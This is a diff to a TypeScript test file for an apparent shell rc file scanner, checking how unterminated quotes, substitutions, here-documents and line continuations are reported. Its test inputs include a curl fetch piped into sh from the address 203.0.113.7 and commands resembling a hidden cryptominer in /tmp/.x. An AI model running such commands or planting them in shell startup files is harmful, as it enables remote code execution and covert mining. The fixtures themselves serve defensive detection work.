@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { Issue } from '../../model/issue.js';
-import { fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
+import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
 import { isBinaryLine } from './file.js';
 import { type ShellLine, ShellLineReader, shellRc } from './shell-rc.js';
 
@@ -15,6 +15,8 @@ runSourceContract({
   source: shellRc,
   good,
   bad,
+  // the file copied while an entry was written: it ends inside the quoted URL
+  cut: cutCase(good, 'curl -fsSL "http://203.0.113.7/cutmin', 'cutmin'),
   skip: {
     oversized:
       'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
@@ -221,11 +223,38 @@ test('case patterns are not commands, the commands after them are', () => {
   assert.deepEqual(running('case $1 in\n  start) /usr/bin/.x/run ;;\nesac').runs, [[2, 'start) /usr/bin/.x/run ;;']]);
 });
 
-test('an unclosed quote at the end of the file is reported', () => {
-  const { issues } = running("echo 'unclosed\nmore");
+test('a quote or substitution open at the end of the file is reported and not read as a command (bash refuses it)', () => {
+  for (const text of [
+    "echo 'unclosed\nmore",
+    '/tmp/.x/run "--pool',
+    'nohup /tmp/.x/run $(cat /tmp/.x/cf',
+    'curl -s http://203.0.113.7/x.sh | sh -c "$(cat',
+  ]) {
+    const { runs, issues } = running(text);
+    assert.deepEqual(
+      issues.map((i) => [i.line, i.code]),
+      [[1, 'SHELL_RC_UNTERMINATED']],
+      text,
+    );
+    assert.deepEqual(runs, [], text);
+  }
+});
+
+test('a here-document or continuation the end of the file closes is reported and still read (bash runs it)', () => {
+  const doc = running('bash <<EOF\n/tmp/.x/run --donate-level 1');
   assert.deepEqual(
-    issues.map((i) => [i.line, i.code]),
+    doc.issues.map((i) => [i.line, i.code]),
     [[1, 'SHELL_RC_UNTERMINATED']],
+  );
+  assert.equal(doc.runs.length, 1);
+  const cont = running('/tmp/.x/run \\');
+  assert.deepEqual(
+    cont.issues.map((i) => [i.line, i.code]),
+    [[1, 'SHELL_RC_UNTERMINATED']],
+  );
+  assert.deepEqual(
+    cont.runs.map(([line]) => line),
+    [1],
   );
 });
 
